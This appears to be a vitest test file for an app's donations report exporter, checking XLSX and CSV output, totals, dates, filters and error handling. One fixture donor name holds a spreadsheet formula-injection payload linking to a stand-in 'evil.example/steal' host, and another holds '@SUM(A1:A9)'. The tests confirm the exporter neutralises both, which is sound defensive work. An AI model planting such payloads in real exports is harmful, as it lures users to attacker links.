import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { writeDonationsReport } from '../../../src-main/services/reports/donations-report';
import { AppError } from '../../../src-shared/errors';
import { displayMoney, toCents } from '../../../src-shared/reports/money';
import { campaign, donation, fakeClient } from './fake-client';
import { readWorkbook, sheetNamed, type ReadCell } from './second-reader';

const HYPERLINK = '=HYPERLINK("http://evil.example/steal","Click me")';
const environment = { name: 'client-test', kind: 'test', url: 'http://fake.invalid' };

// Amounts chosen to drift in floating point if summed as numbers (0.1 + 0.2 ...).
const AMOUNTS = [0.1, 0.2, 19.99, 1000, 33.33, 0.7, 250.05];
const campaigns = [
  campaign(101, { title: 'Annual Fund', goal: 5000, raised: 1234.5 }),
  campaign(102, { title: '+Scholarships', goal: null, raised: 10 }),
];
const donations = [
  ...Array.from({ length: 700 }, (_, i) =>
    donation(i + 1, {
      campaign_id: i % 3 === 0 ? 102 : 101,
      user_id: 7000 + (i % 40),
      amount: AMOUNTS[i % AMOUNTS.length]!,
      created_at: `2024-${String((i % 12) + 1).padStart(2, '0')}-${String((i % 28) + 1).padStart(2, '0')} 23:59:30`,
    }),
  ),
  donation(9001, {
    first_name: HYPERLINK,
    last_name: '@SUM(A1:A9)',
    campaign_id: 101,
    amount: 5,
    created_at: '2024-02-29 00:00:01',
  }),
  donation(9002, { created_at: null, amount: 1.01, user_id: null, first_name: 'Anon', last_name: null }),
  donation(9003, { campaign_id: 999, amount: 2.02, created_at: 'not a date' }),
];
const expectedCents = donations.reduce((sum, d) => sum + toCents(d.amount), 0);

let folder: string;
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'reports-test-'));
  process.env.TZ = 'America/New_York'; // a shift would show on dates if the writer used local time
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const num = (cell: ReadCell | null | undefined) => {
  expect(cell?.t).toBe('n');
  return cell!.v as number;
};
/** A totals cell: a SUBTOTAL formula (filtering updates it) with its value cached; answers the value. */
const total = (cell: ReadCell | null | undefined, formula: RegExp) => {
  expect(cell?.t).toBe('f');
  expect(String(cell!.v)).toMatch(formula);
  return cell!.c as number;
};

describe('donations report to XLSX, read back by openpyxl', () => {
  let sheets: ReturnType<typeof readWorkbook>;
  let outcome: Awaited<ReturnType<typeof writeDonationsReport>>;
  const progress: string[] = [];

  beforeAll(async () => {
    const client = fakeClient(campaigns, donations);
    outcome = await writeDonationsReport({
      client,
      environment,
      filter: { campaignId: undefined },
      out: join(folder, 'donations.xlsx'),
      onProgress: (p) => progress.push(p.phase),
      now: () => new Date('2026-11-22T02:41:07Z'),
    });
    sheets = readWorkbook(join(folder, 'donations.xlsx'));
  });

  it('has the four sheets in order, and leaves no partial file behind', () => {
    expect(sheets.map((s) => s.name)).toEqual(['Donations', 'By campaign', 'By month', 'About']);
    expect(readdirSync(folder).filter((f) => f.includes('partial'))).toEqual([]);
    expect(outcome.rows).toBe(donations.length);
    expect(progress[0]).toBe('fetching');
    expect(progress.at(-1)).toBe('done');
  });

  it('writes dates as real dates with the wall-clock time the service sent', () => {
    const rows = sheetNamed(sheets, 'Donations').rows;
    expect(rows[1]![0]).toMatchObject({ t: 'd', v: '2024-01-01T23:59:30', f: 'yyyy-mm-dd hh:mm:ss' });
    const leap = rows.find((r) => r[8]?.v === 9001)!;
    expect(leap[0]).toMatchObject({ t: 'd', v: '2024-02-29T00:00:01' });
    // A created_at that is not a date is kept as the text the service sent; a missing one is empty.
    expect(rows.find((r) => r[8]?.v === 9003)![0]).toEqual({ t: 's', v: 'not a date' });
    expect(rows.find((r) => r[8]?.v === 9002)![0]).toBeNull();
  });

  it('writes amounts as numbers with a currency format, and totals that equal the sum to the cent', () => {
    const rows = sheetNamed(sheets, 'Donations').rows;
    const data = rows.slice(1, 1 + donations.length);
    expect(data[0]![6]).toMatchObject({ t: 'n', f: '"$"#,##0.00;-"$"#,##0.00' });
    const readCents = data.reduce((sum, row) => sum + Math.round(num(row[6]) * 100), 0);
    expect(readCents).toBe(expectedCents);
    const totalRow = rows.at(-1)!;
    expect(totalRow[0]?.v).toBe('Total');
    expect(Math.round(total(totalRow[6], new RegExp(`^=?SUBTOTAL\\(109,G2:G${donations.length + 1}\\)$`)) * 100)).toBe(
      expectedCents,
    );
    expect(rows[donations.length + 1]!.every((c) => c === null)).toBe(true); // blank line before totals
  });

  it('keeps an injected formula in a donor name as text', () => {
    const row = sheetNamed(sheets, 'Donations').rows.find((r) => r[8]?.v === 9001)!;
    expect(row[1]).toEqual({ t: 's', v: `'${HYPERLINK}` });
    expect(row[2]).toEqual({ t: 's', v: "'@SUM(A1:A9)" });
    expect(row[5]).toEqual({ t: 's', v: 'Annual Fund' });
    // The only formulas are the totals' SUBTOTALs, which the app writes itself.
    const flat = sheets.flatMap((s) => s.rows.flat());
    expect(
      flat.filter(
        (c) =>
          c?.t === 'f' &&
          !/^=?(SUBTOTAL\(\d+,[A-Z]+\d+:[A-Z]+\d+\)|IF\([A-Z]+\d+=0,0,[A-Z]+\d+\/[A-Z]+\d+\))$/.test(String(c.v)),
      ),
    ).toEqual([]);
  });

  it('styles, freezes and filters the header, with set widths', () => {
    const sheet = sheetNamed(sheets, 'Donations');
    expect(sheet.frozen).toBe('A2');
    expect(sheet.autofilter).toBe(`A1:I${donations.length + 1}`);
    expect(sheet.headerBold.every(Boolean)).toBe(true);
    expect(sheet.rows[0]!.map((c) => c?.v)).toEqual([
      'Date',
      'First name',
      'Last name',
      'User ID',
      'Campaign ID',
      'Campaign',
      'Amount',
      'Transaction ID',
      'Donation ID',
    ]);
    expect(sheet.widths.F).toBe(32);
  });

  it('sums by campaign: count, donors, total, average, largest, goal, raised, % of goal', () => {
    const rows = sheetNamed(sheets, 'By campaign').rows;
    const annual = rows.find((r) => r[0]?.v === 101)!;
    const mine = donations.filter((d) => d.campaign_id === 101);
    const cents = mine.reduce((s, d) => s + toCents(d.amount), 0);
    expect(annual[1]?.v).toBe('Annual Fund');
    expect(num(annual[2])).toBe(mine.length);
    expect(num(annual[3])).toBe(new Set(mine.map((d) => d.user_id)).size);
    expect(Math.round(num(annual[4]) * 100)).toBe(cents);
    expect(Math.round(num(annual[5]) * 100)).toBe(Math.round(cents / mine.length));
    expect(num(annual[6])).toBe(1000);
    expect(num(annual[7])).toBe(5000);
    expect(num(annual[8])).toBe(1234.5);
    expect(annual[9]).toMatchObject({ t: 'n', v: 1234.5 / 5000, f: '0.0%' });
    // No goal: no percentage. A campaign the service does not know: listed without a title.
    expect(rows.find((r) => r[0]?.v === 102)![9]).toBeNull();
    expect(rows.find((r) => r[0]?.v === 999)![1]).toBeNull();
    const totals = rows.at(-1)!;
    expect(totals[0]?.v).toBe('Total');
    expect(total(totals[2], /^=?SUBTOTAL\(109,C2:C\d+\)$/)).toBe(donations.length);
    expect(Math.round(total(totals[4], /^=?SUBTOTAL\(109,E2:E\d+\)$/) * 100)).toBe(expectedCents);
    expect(total(totals[6], /^=?SUBTOTAL\(104,G2:G\d+\)$/)).toBe(Math.max(...donations.map((d) => d.amount ?? 0)));
  });

  it('sums by month, with undated donations last under "(no date)"', () => {
    const rows = sheetNamed(sheets, 'By month').rows;
    expect(rows[1]![0]).toMatchObject({ t: 'd', v: '2024-01-01T00:00:00', f: 'mmm yyyy' });
    const data = rows.slice(1, -2);
    expect(data.at(-1)![0]).toEqual({ t: 's', v: '(no date)' });
    expect(num(data.at(-1)![1])).toBe(2);
    expect(data.reduce((s, r) => s + num(r[1]), 0)).toBe(donations.length);
    expect(data.reduce((s, r) => s + Math.round(num(r[2]) * 100), 0)).toBe(expectedCents);
  });

  it('says in About where the figures came from, and what to watch for', () => {
    const about = Object.fromEntries(
      sheetNamed(sheets, 'About')
        .rows.slice(1)
        .map((r) => [r[0]?.v ?? '', r[1]?.v]),
    );
    expect(about.Report).toBe('Donations');
    expect(about.Environment).toBe('client-test (test)');
    expect(about['Exported at']).toBe('2026-11-22 02:41:07 UTC');
    expect(about.Donations).toBe(String(donations.length));
    expect(about['Total amount']).toBe(displayMoney(expectedCents));
    expect(about['Total amount']).toMatch(/^\$[\d,]+\.\d\d$/);
    expect(about.Filters).toBe('None: every donation');
    const notes = sheetNamed(sheets, 'About')
      .rows.filter((r) => r[0]?.v === 'Note')
      .map((r) => String(r[1]?.v));
    expect(notes.some((n) => n.includes('999'))).toBe(true);
    expect(notes.some((n) => n.startsWith('2 donations had no readable date'))).toBe(true);
    expect(outcome.warnings).toEqual(notes);
  });
});

describe('donations report to CSV', () => {
  it('writes UTF-8 with a BOM, plain numbers and dates, formulas neutralised', async () => {
    const out = join(folder, 'donations.csv');
    const accented = donation(1, { first_name: 'Zoë', last_name: 'Łukasiewicz', amount: 1234.5 });
    await writeDonationsReport({
      client: fakeClient(campaigns, [accented, donations.at(-3)!]),
      environment,
      filter: {},
      out,
    });
    const bytes = readFileSync(out);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const parsed = Papa.parse<string[]>(bytes.toString('utf8').slice(1), { skipEmptyLines: true });
    expect(parsed.data[0]).toEqual([
      'Date',
      'First name',
      'Last name',
      'User ID',
      'Campaign ID',
      'Campaign',
      'Amount',
      'Transaction ID',
      'Donation ID',
    ]);
    expect(parsed.data[1]).toEqual([
      '2024-03-15 10:30:00',
      'Zoë',
      'Łukasiewicz',
      '5001',
      '101',
      'Annual Fund',
      '1234.50',
      'txn_1',
      '1',
    ]);
    expect(parsed.data[2]![1]).toBe(`'${HYPERLINK}`);
    expect(parsed.data[2]![2]).toBe("'@SUM(A1:A9)");
    expect(parsed.data).toHaveLength(3); // one clean table: no totals line in CSV
  });
});

describe('donations report filters and refusals', () => {
  it('passes the filters to the service as campaign_id, user_id, start_date, end_date', async () => {
    const client = fakeClient(campaigns, []);
    await writeDonationsReport({
      client,
      environment,
      filter: { campaignId: 101, userId: 7, from: '2024-01-01', to: '2024-12-31' },
      out: join(folder, 'f.xlsx'),
    });
    expect(client.calls.donationFilters).toEqual([
      { campaign_id: 101, user_id: 7, start_date: '2024-01-01', end_date: '2024-12-31' },
    ]);
  });

  it('refuses an output name that is neither .xlsx nor .csv, before asking the service', async () => {
    const client = fakeClient(campaigns, donations);
    const attempt = writeDonationsReport({ client, environment, filter: {}, out: join(folder, 'report.pdf') });
    await expect(attempt).rejects.toThrow(/must end in \.xlsx .* or \.csv: "report\.pdf"/);
    await expect(attempt).rejects.toBeInstanceOf(AppError);
    await expect(attempt).rejects.toMatchObject({
      hint: { setting: 'output-file' },
      details: ['Give a file name ending in .xlsx or .csv, such as donations-2024.xlsx.'],
    });
    expect(client.calls.donationFilters).toEqual([]);
  });

  it('refuses a folder that does not exist, in words that name no door (each door words the hint)', async () => {
    const client = fakeClient([], []);
    const attempt = writeDonationsReport({ client, environment, filter: {}, out: join(folder, 'nope', 'r.xlsx') });
    await expect(attempt).rejects.toThrow(/folder for the report does not exist/);
    await expect(attempt).rejects.toMatchObject({
      hint: { setting: 'output-file' },
      details: ['Create it first, or save the report somewhere else.'],
    });
  });

  it.each(['r.xlsx', 'r.csv'])(
    'refuses a folder that takes no file (%s) in words, before asking the service, instead of failing later',
    async (name) => {
      // /proc exists on Linux and takes no new file, even for root (a read-only folder does for root).
      const client = fakeClient(campaigns, donations);
      const attempt = writeDonationsReport({ client, environment, filter: {}, out: join('/proc', name) });
      await expect(attempt).rejects.toThrow(/The report cannot be saved in \/proc: it takes no new file \(ENOENT\)/);
      await expect(attempt).rejects.toBeInstanceOf(AppError);
      await expect(attempt).rejects.toMatchObject({
        hint: { setting: 'output-file' },
        details: ['Save the report somewhere else, such as a file in your Documents folder.'],
      });
      expect(client.calls.donationFilters).toEqual([]);
    },
  );

  it('refuses more donations than an Excel sheet holds before writing them, and points to CSV', async () => {
    const sub = mkdtempSync(join(folder, 'too-many-'));
    const one = donation(1);
    const client = Object.assign(fakeClient(campaigns, []), {
      async *streamDonations() {
        yield new Array<typeof one>(1_048_574).fill(one); // one more than fits under the header and totals
      },
    });
    const attempt = writeDonationsReport({ client, environment, filter: {}, out: join(sub, 'r.xlsx') });
    await expect(attempt).rejects.toThrow(
      'More donations than one Excel sheet can hold (over 1048573). Nothing was saved.',
    );
    await expect(attempt).rejects.toMatchObject({ details: [expect.stringContaining('export to a .csv file')] });
    expect(readdirSync(sub)).toEqual([]);
  });

  it('stops on cancel and leaves neither the report nor a partial file', async () => {
    const sub = mkdtempSync(join(folder, 'cancel-'));
    const controller = new AbortController();
    const many = Array.from({ length: 5000 }, (_, i) => donation(i + 1));
    const attempt = writeDonationsReport({
      client: fakeClient(campaigns, many),
      environment,
      filter: {},
      out: join(sub, 'r.xlsx'),
      signal: controller.signal,
      onProgress: (p) => p.phase === 'writing' && controller.abort(),
    });
    await expect(attempt).rejects.toMatchObject({ code: 'cancelled' });
    expect(readdirSync(sub)).toEqual([]);
  });
});
